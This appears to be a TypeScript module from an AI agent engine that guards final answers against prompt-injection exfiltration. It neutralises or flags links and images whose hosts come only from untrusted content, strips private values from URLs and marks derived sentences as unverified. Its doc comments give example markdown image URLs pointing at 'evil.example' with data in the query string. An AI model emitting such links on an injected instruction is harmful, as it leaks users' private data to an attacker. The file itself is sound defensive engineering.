import type { ContextText } from './call-review.js';
import { privateValuesIn } from './private-data.js';

/**
 * What the answer guard does with a link, image or URL in a final answer whose destination is
 * grounded only in untrusted content (or nowhere):
 * - `neutralise` (default): rendered inert (no scheme, dots bracketed: `evil[.]example/x`) with
 *   a visible note, and journaled;
 * - `flag`: left as written, journaled and marked in the answer's provenance.
 * Private values are removed from every URL of the answer in both modes.
 */
export const ANSWER_HANDLINGS = ['neutralise', 'flag'] as const;
/** What the answer guard does with a link whose destination came from untrusted content. */
export type AnswerHandling = (typeof ANSWER_HANDLINGS)[number];

/** Where a link in the answer points, and where that destination came from. */
export type DestinationOrigin = 'trusted' | 'allow_listed' | 'untrusted' | 'ungrounded';

/** One thing the answer guard found in a final answer. Plain JSON. */
export interface AnswerFinding {
  /** `untrusted_link`: a destination not grounded in trusted content; `private_value`: a private value inside a URL. */
  readonly kind: 'untrusted_link' | 'private_value';
  /** The destination's host, as a browser would resolve it (look-alike letters in punycode). */
  readonly destination: string;
  readonly origin: DestinationOrigin;
  /** `image`, `link` (markdown or HTML), or `url` (bare). */
  readonly form: 'image' | 'link' | 'url';
  /** What was done: rendered inert, private values removed, or only recorded. */
  readonly action: 'neutralised' | 'removed' | 'flagged';
}

/**
 * A stretch of the answer that derives from untrusted content: a link whose destination came
 * from it, or a sentence carrying a value, contact or phrase found only there. A UI shows
 * these as unverified. Offsets index the answer as returned.
 */
export interface AnswerSpan {
  readonly start: number;
  readonly end: number;
  /** The provenance source it came from (`tool:read_email`, `quarantine:call_1`). */
  readonly source: string;
  readonly reason: 'link' | 'content';
}

/** What the answer guard returns: the answer to deliver, what it found, and its provenance. */
export interface AnswerReview {
  readonly text: string;
  readonly findings: readonly AnswerFinding[];
  readonly spans: readonly AnswerSpan[];
}

/** The answer guard's inputs besides the answer. */
export interface AnswerGuardOptions {
  /** What the run saw, with provenance: destinations are grounded in it. */
  readonly context: readonly ContextText[];
  /** True once untrusted content entered the run; before that no destination is suspect. */
  readonly tainted: boolean;
  readonly handling: AnswerHandling;
  /** Values of private tool results (`privateValues`): removed from every URL of the answer. */
  readonly privateValues?: readonly string[];
  /** Hosts that count as trusted destinations (`docs.acme.example`; `acme.example` covers its subdomains). */
  readonly allow?: readonly string[];
}

// A markdown image or link, an HTML tag with src/href, an autolink, or a bare URL.
const LINKS =
  /(!?)\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{1,2000})>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)|<(?:img|a|iframe|source|video|audio|link|script)\b[^>]{0,2000}?\b(?:src|href|srcset)\s*=\s*["']?([^"'\s>]{1,2000})["']?[^>]{0,2000}>|<((?:https?|ftp):\/\/[^>\s]{1,2000})>|((?:(?:https?|ftp):)?\/\/[^\s<>()"'[\]`]{1,2000}|\bwww\.[^\s<>()"'[\]`]{1,2000})/giu;
const HOSTS =
  /(?:[a-z][a-z0-9+.-]*:)?\/\/(?:[^\s/?#@"'<>()[\]]*@)?([^\s/?#:"'<>()[\]`]+)|(?<![@\p{L}\p{N}._-])((?:[\p{L}\p{N}-]+\.)+\p{L}{2,})(?![\p{L}\p{N}@-])/giu;

/**
 * What the answer guard needs of one piece of context, computed once per piece (the engine
 * carries a run's pieces from step to step, so each is indexed once per run, when it enters):
 * the hosts it names, its text lower-cased, and its runs of four words. An answer is then
 * checked in time linear in the answer and the number of pieces, not the context's length.
 */
interface PieceIndex {
  readonly trusted: boolean;
  readonly source: string;
  readonly hosts: ReadonlySet<string>;
  readonly lower: string;
  /** The piece's words, each between spaces: a phrase is found as a substring. */
  readonly words: string;
  /** A bit per word hash of `words` (a Bloom filter): most phrases are ruled out without a scan. */
  readonly bloom: Uint32Array;
  squeezed?: string;
}
const pieceIndexes = new WeakMap<ContextText, PieceIndex>();

/** A piece's index, each part computed the first time it is asked for. */
function indexOf(piece: ContextText): PieceIndex {
  let index = pieceIndexes.get(piece);
  if (index === undefined) {
    let hosts: Set<string> | undefined;
    let lower: string | undefined;
    let words: string | undefined;
    let bloom: Uint32Array | undefined;
    const lowered = () => (lower ??= piece.text.toLowerCase());
    // One string, no word list: runs of other characters become one space.
    const spaced = () => (words ??= ` ${lowered().replace(NOT_WORDS, ' ').trim()} `);
    index = {
      trusted: piece.provenance.trust === 'trusted',
      source: piece.provenance.source,
      get hosts() {
        return (hosts ??= new Set(hostsIn(piece.text)));
      },
      get lower() {
        return lowered();
      },
      get words() {
        return spaced();
      },
      get bloom() {
        return (bloom ??= bloomOf(lowered()));
      },
    };
    pieceIndexes.set(piece, index);
  }
  return index;
}

/**
 * Whether a piece holds these four words in a row (`padded`: them joined, between spaces;
 * `hashes`: each word's hash). A word its filter has no bit for rules the phrase out.
 */
function hasGram(index: PieceIndex, hashes: readonly number[], padded: string): boolean {
  const bloom = index.bloom;
  const mask = bloom.length * 32 - 1;
  for (const hash of hashes) {
    const bit = hash & mask;
    if (((bloom[bit >>> 5] ?? 0) & (1 << (bit & 31))) === 0) return false;
  }
  return index.words.includes(padded);
}

/** FNV-1a of `text` from `start` to `end`. */
function wordHash(text: string, start: number, end: number): number {
  let hash = 0x811c9dc5;
  for (let i = start; i < end; i += 1) hash = Math.imul(hash ^ text.charCodeAt(i), 0x01000193);
  return hash >>> 0;
}

/**
 * The filter of a lower-cased text's words (runs of letters and digits, as WORD finds them):
 * a power of two of bits, about twelve per word. One pass, no word strings.
 */
function bloomOf(lower: string): Uint32Array {
  let bits = 512;
  while (bits < lower.length * 2 && bits < 1 << 20) bits *= 2;
  const bloom = new Uint32Array(bits / 32);
  const mask = bits - 1;
  let hash = 0x811c9dc5;
  let inWord = false;
  const end = (): void => {
    const bit = (hash >>> 0) & mask;
    bloom[bit >>> 5] = (bloom[bit >>> 5] ?? 0) | (1 << (bit & 31));
    hash = 0x811c9dc5;
    inWord = false;
  };
  for (let i = 0; i < lower.length; i += 1) {
    const code = lower.charCodeAt(i);
    let width = 1;
    let word: boolean;
    if (code < 0x80) word = (code >= 0x61 && code <= 0x7a) || (code >= 0x30 && code <= 0x39);
    else {
      const point = lower.codePointAt(i) ?? code;
      width = point > 0xffff ? 2 : 1;
      word = LETTER_OR_DIGIT.test(String.fromCodePoint(point));
    }
    if (word) {
      for (let k = 0; k < width; k += 1)
        hash = Math.imul(hash ^ lower.charCodeAt(i + k), 0x01000193);
      inWord = true;
    } else if (inWord) end();
    i += width - 1;
  }
  if (inWord) end();
  return bloom;
}
const LETTER_OR_DIGIT = /^[\p{L}\p{N}]$/u;

const NOT_WORDS = /[^\p{L}\p{N}]+/gu;

/** One link inside a text (a message body, an answer): its URL and the host it resolves to. */
export interface TextLink {
  readonly url: string;
  readonly host: string;
}

/**
 * The links a text carries (markdown, HTML, autolinks, bare URLs and `www.` addresses), each
 * with the host it resolves to.
 *
 * ```ts
 * linksIn('read ![x](https://evil.example/?d=1)') // [{ url: 'https://evil.example/?d=1', host: 'evil.example' }]
 * ```
 */
export function linksIn(text: string): TextLink[] {
  if (!mayLink(text)) return [];
  const links: TextLink[] = [];
  for (const match of text.matchAll(LINKS)) {
    const url = linkOf(match)[1];
    const host = hostOf(url);
    if (host !== undefined) links.push({ url, host });
  }
  return links;
}

/**
 * Where a destination host came from: `trusted` when trusted content of the run names it (in a
 * URL or as a domain), `allow_listed` when it is (a subdomain of) an entry of `allow`,
 * `untrusted` when only untrusted content names it, else `ungrounded`.
 */
export function destinationOrigin(
  host: string,
  context: readonly ContextText[],
  allow: readonly string[] = [],
): DestinationOrigin {
  return originOfHost(host, context, allow).origin;
}

function mayLink(text: string): boolean {
  return text.includes('//') || (text.includes('.') && /www\./i.test(text));
}

/**
 * Check a final answer before it is delivered. Once untrusted content entered the run, every
 * link, image and URL whose host is not grounded in trusted content or the allow-list is
 * neutralised (or flagged); private values are taken out of every URL; and the stretches that
 * derive from untrusted content are returned as spans. Pure; linear in the answer and context.
 *
 * ```ts
 * const review = guardAnswer(answer, { context, tainted: true, handling: 'neutralise' });
 * deliver(review.text); // `![](https://evil.example/?d=482913)` is now inert, with a note
 * ```
 */
export function guardAnswer(answer: string, options: AnswerGuardOptions): AnswerReview {
  const secrets = options.privateValues ?? [];
  if (!options.tainted && secrets.length === 0) return { text: answer, findings: [], spans: [] };
  const findings: AnswerFinding[] = [];
  const linkSpans: { start: number; end: number; source: string }[] = [];
  let text = '';
  let last = 0;
  for (const match of mayLink(answer) ? answer.matchAll(LINKS) : []) {
    const whole = match[0];
    const at = match.index;
    const [form, url] = linkOf(match);
    const host = hostOf(url);
    if (host === undefined) continue;
    const grounded = options.tainted
      ? originOfHost(host, options.context, options.allow ?? [])
      : { origin: 'trusted' as const, source: undefined };
    const origin = grounded.origin;
    const carried = privateValuesIn(url, secrets);
    const suspect = origin === 'untrusted' || origin === 'ungrounded';
    if (!suspect && carried.length === 0) continue;
    text += answer.slice(last, at);
    last = at + whole.length;
    let replacement = whole;
    if (carried.length > 0) {
      replacement = withoutValues(replacement, carried);
      findings.push({ kind: 'private_value', destination: host, origin, form, action: 'removed' });
    }
    if (suspect) {
      const neutralise = options.handling === 'neutralise';
      if (neutralise) replacement = inert(form, match, withoutValues(url, carried), host);
      findings.push({
        kind: 'untrusted_link',
        destination: host,
        origin,
        form,
        action: neutralise ? 'neutralised' : 'flagged',
      });
      const start = text.length;
      text += replacement;
      linkSpans.push({
        start,
        end: text.length,
        source: grounded.source ?? 'ungrounded',
      });
      continue;
    }
    text += replacement;
  }
  text += answer.slice(last);
  const spans: AnswerSpan[] = linkSpans.map((span) => ({ ...span, reason: 'link' }));
  if (options.tainted) spans.push(...contentSpans(text, options.context, linkSpans));
  spans.sort((a, b) => a.start - b.start);
  return { text, findings, spans };
}

function linkOf(match: RegExpMatchArray): [AnswerFinding['form'], string] {
  if (match[3] !== undefined) return [match[1] === '!' ? 'image' : 'link', match[3]];
  if (match[4] !== undefined)
    return [/^<img|^<source|^<video|^<audio/i.test(match[0]) ? 'image' : 'link', match[4]];
  if (match[5] !== undefined) return ['link', match[5]];
  return ['url', match[6] ?? ''];
}

/** The host a URL (absolute, protocol-relative or `www.`) resolves to, punycoded; else undefined. */
function hostOf(url: string): string | undefined {
  const absolute = url.startsWith('//')
    ? `https:${url}`
    : /^www\./i.test(url)
      ? `https://${url}`
      : url;
  if (!/^[a-z][a-z0-9+.-]*:\/\//i.test(absolute)) return undefined;
  try {
    const host = new URL(absolute).hostname.toLowerCase();
    return host === '' ? undefined : host.replace(/\.$/, '');
  } catch {
    return undefined;
  }
}

/** Where a host came from, and (when untrusted) the first piece that names it. */
function originOfHost(
  host: string,
  context: readonly ContextText[],
  allow: readonly string[],
): { readonly origin: DestinationOrigin; readonly source: string | undefined } {
  let source: string | undefined;
  for (const piece of context) {
    const index = indexOf(piece);
    if (!index.hosts.has(host)) continue;
    if (index.trusted) return { origin: 'trusted', source: undefined };
    source ??= index.source;
  }
  if (allow.some((entry) => host === entry || host.endsWith(`.${entry}`)))
    return { origin: 'allow_listed', source: undefined };
  return { origin: source === undefined ? 'ungrounded' : 'untrusted', source };
}

/** `url` with each private value cut out (as written and percent-encoded). */
function withoutValues(url: string, values: readonly string[]): string {
  let out = url;
  for (const value of values) {
    for (const spelling of new Set([value, encodeURIComponent(value)])) {
      let index = out.toLowerCase().indexOf(spelling);
      while (index >= 0) {
        out = `${out.slice(0, index)}[private]${out.slice(index + spelling.length)}`;
        index = out.toLowerCase().indexOf(spelling, index + '[private]'.length);
      }
    }
  }
  return out;
}

/** A link rendered inert: no scheme, dots bracketed, no query, and a note saying why. */
function inert(
  form: AnswerFinding['form'],
  match: RegExpMatchArray,
  url: string,
  host: string,
): string {
  let shown = url.replace(/^[a-z][a-z0-9+.-]*:/i, '').replace(/^\/\//, '');
  shown = shown.replace(/[?#].*$/s, '');
  shown = shown.replace(/\./g, '[.]');
  if (shown.length > 80) shown = `${shown.slice(0, 79)}…`;
  const shownHost = host.replace(/\./g, '[.]');
  if (form === 'image')
    return `[image not loaded: its address (${shownHost}) came from untrusted content]`;
  const label = match[3] !== undefined ? (match[2] ?? '').trim() : '';
  const note = `link not opened: ${shown} came from untrusted content`;
  return label === '' ? `[${note}]` : `${label} [${note}]`;
}

/**
 * The hosts a text names. No match of HOSTS can hold a space, quote, angle bracket,
 * parenthesis or square bracket, and each holds a dot or `//`: so only the stretches between
 * those characters that hold one are scanned, with the same result as scanning the whole text
 * (the look-arounds see the same characters, or the text's edge where a delimiter was).
 */
function* hostsIn(text: string): Generator<string> {
  let from = 0;
  let dot = text.indexOf('.');
  let slash = text.indexOf('/');
  while (dot >= 0 || slash >= 0) {
    const at = dot < 0 ? slash : slash < 0 ? dot : Math.min(dot, slash);
    let start = at;
    while (start > from && !DELIMITERS.has(text.charCodeAt(start - 1))) start -= 1;
    let end = at + 1;
    while (end < text.length && !DELIMITERS.has(text.charCodeAt(end))) end += 1;
    yield* hostsOfToken(text.slice(start, end));
    from = end;
    if (dot >= 0 && dot < from) dot = text.indexOf('.', from);
    if (slash >= 0 && slash < from) slash = text.indexOf('/', from);
  }
}
// What no host match holds: white space, quotes, angle brackets, parentheses, square brackets.
const DELIMITERS = new Set([
  0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x20, 0x22, 0x27, 0x28, 0x29, 0x3c, 0x3e, 0x5b, 0x5d, 0xa0, 0x1680,
  0x2000, 0x2001, 0x2002, 0x2003, 0x2004, 0x2005, 0x2006, 0x2007, 0x2008, 0x2009, 0x200a, 0x2028,
  0x2029, 0x202f, 0x205f, 0x3000, 0xfeff,
]);

function* hostsOfToken(text: string): Generator<string> {
  for (const match of text.matchAll(HOSTS)) {
    const raw = match[1] ?? match[2];
    if (raw === undefined) continue;
    // A plain ASCII name whose last label starts with a letter (so no IPv4 form) is its own
    // host, lower-cased, as a browser would resolve it: no URL parse needed.
    const host = PLAIN_HOST.test(raw)
      ? raw.toLowerCase().replace(/\.$/, '')
      : hostOf(`https://${raw}`);
    if (host !== undefined) yield host;
  }
}
const PLAIN_HOST = /^(?:[a-z0-9-]+\.)+[a-z][a-z0-9-]*\.?$/i;

const WORD = /[\p{L}\p{N}]+/gu;
const GRAM = 4;

/** Each run of four words, lower-cased: a phrase lifted from a text shares them. */
function gramsOf(text: string): string[][] {
  const words = text.toLowerCase().match(WORD) ?? [];
  const grams: string[][] = [];
  for (let i = 0; i + GRAM <= words.length; i += 1) grams.push(words.slice(i, i + GRAM));
  return grams;
}

// Values that say where to go or whom to call: a phone number, an email, a long number.
const SALIENT = /\+?\d[\d ().-]{5,}\d|[^\s@<>()[\]]+@[^\s@<>()[\]]+\.[\p{L}]{2,}|\b\d{3,}\b/gu;

/**
 * Sentences of the answer that carry a contact, number or four-word phrase found in untrusted
 * content and not in trusted content (links are spanned on their own).
 */
function contentSpans(
  text: string,
  context: readonly ContextText[],
  links: readonly { start: number; end: number }[],
): AnswerSpan[] {
  const pieces = context.map(indexOf);
  if (!pieces.some((piece) => !piece.trusted)) return [];
  const spans: AnswerSpan[] = [];
  const sentence = /[^.!?\n]+[.!?]*/g;
  for (const match of text.matchAll(sentence)) {
    const start = match.index;
    const end = start + match[0].length;
    if (links.some((link) => link.start < end && link.end > start)) continue;
    const source = untrustedSource(match[0], pieces);
    if (source !== undefined) spans.push({ start, end, source, reason: 'content' });
  }
  return spans;
}

function untrustedSource(sentence: string, pieces: readonly PieceIndex[]): string | undefined {
  for (const gram of gramsOf(sentence)) {
    const padded = ` ${gram.join(' ')} `;
    const hashes = gram.map((word) => wordHash(word, 0, word.length));
    if (pieces.some((piece) => piece.trusted && hasGram(piece, hashes, padded))) continue;
    for (const piece of pieces)
      if (!piece.trusted && hasGram(piece, hashes, padded)) return piece.source;
  }
  for (const found of sentence.matchAll(SALIENT)) {
    const value = found[0].trim().toLowerCase();
    if (pieces.some((piece) => piece.trusted && piece.lower.includes(value))) continue;
    // A phone number reads the same with other spacing: `+1 555 0199` is `+1-555-0199`.
    const compact = value.replace(/[^\p{L}\p{N}@.]/gu, '');
    for (const piece of pieces)
      if (
        !piece.trusted &&
        (piece.lower.includes(value) || (compact.length >= 6 && squeeze(piece).includes(compact)))
      )
        return piece.source;
  }
  return undefined;
}

function squeeze(piece: PieceIndex): string {
  piece.squeezed ??= piece.lower.replace(/[^\p{L}\p{N}@.]/gu, '');
  return piece.squeezed;
}
